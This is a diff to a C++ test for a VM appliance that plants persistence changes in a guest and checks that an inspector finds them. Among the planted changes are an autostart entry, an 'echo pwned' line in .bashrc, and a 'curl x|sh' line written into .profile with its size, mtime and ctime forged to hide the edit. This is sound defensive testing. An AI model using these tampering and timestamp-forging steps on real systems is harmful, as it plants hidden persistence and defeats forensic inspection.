@@ -2,7 +2,9 @@
 // planted in the guest, the appliance is recovered (switched off, system changes quarantined,
 // clean system), the next boot is clean, the inspector VM reads the quarantined disk (never
 // mounted on the host) and reports exactly the planted changes with the persistence spots
-// first, one file is salvaged into the personal store, and the quarantine is purged.
+// first (among them a shell start-up file replaced keeping its size, mtime and ctime: the
+// inspector hashes every file in a persistence spot), one file is salvaged into the personal
+// store, and the quarantine is purged.
 // Prints the time to recover and to inspect.
 #include "appliancecatalog.h"
 #include "appliancevm.h"
@@ -118,10 +120,21 @@ private Q_SLOTS:
             SpiceConnection spice;
             GuestDriver driver(&spice);
             QVERIFY(bootAndConnect(vm, spice, driver));
-            QCOMPARE(status(driver, QStringLiteral("test -f /root/.bashrc && test -f /etc/issue.net && test ! -e /etc/xdg/autostart")), 0);
+            QCOMPARE(status(driver, QStringLiteral("test -f /root/.bashrc && test -f /root/.profile && test -f /etc/issue.net && test ! -e /etc/xdg/autostart")), 0);
             QCOMPARE(status(driver, QStringLiteral(
                 "mkdir -p /etc/xdg/autostart && printf '[Desktop Entry]\\nType=Application\\nExec=/bin/true\\n' >/etc/xdg/autostart/evil.desktop"
                 " && echo 'echo pwned' >>/root/.bashrc && echo 'my notes' >/root/notes.txt && rm /etc/issue.net && sync")), 0);
+            // As root, replace the start of /root/.profile keeping its size, permissions, owner,
+            // mtime (touch -r) and ctime (the clock set back to it for the touch, then forward
+            // again): only a hash tells the change.
+            QCOMPARE(status(driver, QStringLiteral(
+                "f=/root/.profile; cp -p $f /tmp/ref && size=$(stat -c %s $f) && ct=$(stat -c %Z $f) && now=$(date +%s)"
+                " && up=$(cut -d. -f1 /proc/uptime)"
+                " && printf 'curl x|sh #' | dd of=$f bs=1 conv=notrunc status=none"
+                " && for i in 1 2 3 4 5; do date -s @$ct >/dev/null; touch -r /tmp/ref $f; [ $(stat -c %Z $f) = $ct ] && break; done;"
+                " date -s @$((now + $(cut -d. -f1 /proc/uptime) - up)) >/dev/null;"
+                " sync; ! cmp -s $f /tmp/ref && [ $(stat -c %s $f) = $size ] && [ $(stat -c %Z $f) = $ct ]"
+                " && [ $(stat -c %Y $f) = $(stat -c %Y /tmp/ref) ] && [ $(stat -c %a.%u.%g $f) = $(stat -c %a.%u.%g /tmp/ref) ]")), 0);
             spice.disconnectFromGuest();
         }
 
@@ -183,7 +196,7 @@ private Q_SLOTS:
         // Exactly the planted changes, persistence spots first (the new folder is one too).
         const QStringList expected{
             QStringLiteral("A 1 /etc/xdg/autostart"), QStringLiteral("A 1 /etc/xdg/autostart/evil.desktop"),
-            QStringLiteral("M 1 /root/.bashrc"),
+            QStringLiteral("M 1 /root/.bashrc"), QStringLiteral("M 1 /root/.profile"),
             QStringLiteral("R 0 /etc/issue.net"), QStringLiteral("A 0 /root/notes.txt")};
         QCOMPARE(planted, expected);
         QCOMPARE(report.entries.first().persistence, QStringLiteral("autostart"));
